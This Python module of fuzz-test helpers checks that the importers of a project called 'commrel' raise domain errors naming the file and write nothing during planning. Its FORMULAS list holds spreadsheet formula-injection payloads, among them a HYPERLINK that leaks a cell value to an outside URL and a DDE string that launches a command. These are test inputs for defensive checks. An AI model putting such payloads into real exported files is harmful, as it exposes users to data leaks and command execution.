"""What every importer promises about a hostile or broken file, checked the same way for each format.

* Planning either returns a plan or raises a domain error
  (:class:`~commrel.errors.CommrelError`) whose message names the file;
  any other exception is a bug.
* Planning writes nothing, whether it succeeds or not.
* Applying a plan writes exactly the rows the plan says it creates or
  updates; rows with errors are left out and the rest still go in.
"""
from __future__ import annotations

import os
from pathlib import Path

from hypothesis import HealthCheck, settings

from commrel.errors import CommrelError
from commrel.models import ALL_MODELS, database

# Bounded for CI, and the same examples on every run there, so that a red build means a
# change and not bad luck. COMMREL_FUZZ_EXAMPLES=5000 searches longer and with fresh luck.
_LONG = int(os.environ.get("COMMREL_FUZZ_EXAMPLES", "0"))
FUZZ = settings(max_examples=_LONG or 50, deadline=None, derandomize=not _LONG, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.data_too_large, HealthCheck.filter_too_much])

# Text that a spreadsheet would run as a formula, and its neighbours.
FORMULAS = ['=HYPERLINK("http://example.org/x?leak="&A1,"Click")', "=1+1", "+1", "-2", "@SUM(A1:A9)",
            "\t=1", "\r=1", "'=1", "=cmd|' /C calc'!A0", "-", "+", "@", "="]


def record_counts() -> dict[str, int]:
    """How many rows every table holds."""
    return {m.__name__: m.select().count() for m in ALL_MODELS}


def total_changes() -> int:
    return database.connection().total_changes  # the fuzz suite runs on SQLite only


def plan_or_refuse(plan, path: Path, **options):
    """``plan(path, **options)``, holding it to the contract; returns the plan, or None if refused."""
    before, changes = record_counts(), total_changes()
    try:
        result = plan(path, **options)
    except CommrelError as exc:
        assert path.name in str(exc), f"the message does not name the file: {exc}"
        assert str(exc).strip() != path.name, "the message says nothing but the file name"
        result = None
    assert total_changes() == changes, "planning wrote to the database"
    assert record_counts() == before
    if result is not None:
        for row in result.rows:
            assert row.outcome in ("create", "update", "unchanged", "skip", "conflict")
            assert row.location, row
        assert all(isinstance(e, str) and e for e in result.errors)
    return result


def diff_counts(before: dict[str, int], after: dict[str, int]) -> dict[str, int]:
    return {k: after[k] - before[k] for k in before if after[k] != before[k]}
